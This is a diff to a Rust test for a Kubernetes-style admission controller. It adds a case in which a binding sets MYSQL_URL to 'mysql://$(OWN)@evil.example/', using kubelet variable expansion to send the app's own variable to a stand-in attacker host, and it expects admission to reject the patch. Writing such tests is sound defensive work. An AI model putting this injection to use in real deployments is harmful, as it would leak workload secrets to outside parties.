@@ -1111,6 +1111,21 @@ async fn admission_lets_the_reconciler_write_only_a_stacks_own_children_in_their
             "under a prefix the workload accepts",
         ),
         (
+            "a binding's URL reading the app's own variable ($(OWN), expanded by the kubelet)",
+            apps.patch(
+                "app",
+                &as_binding,
+                &bound(
+                    serde_json::json!({"name": "app", "env": [{"name": "MYSQL_URL",
+                        "value": "mysql://$(OWN)@evil.example/"}]}),
+                    serde_json::json!({}),
+                ),
+            )
+            .await
+            .map(|_| ()),
+            "under a prefix the workload accepts",
+        ),
+        (
             "a binding accepting variables for itself (the Deployment's annotation)",
             apps.patch(
                 "app",
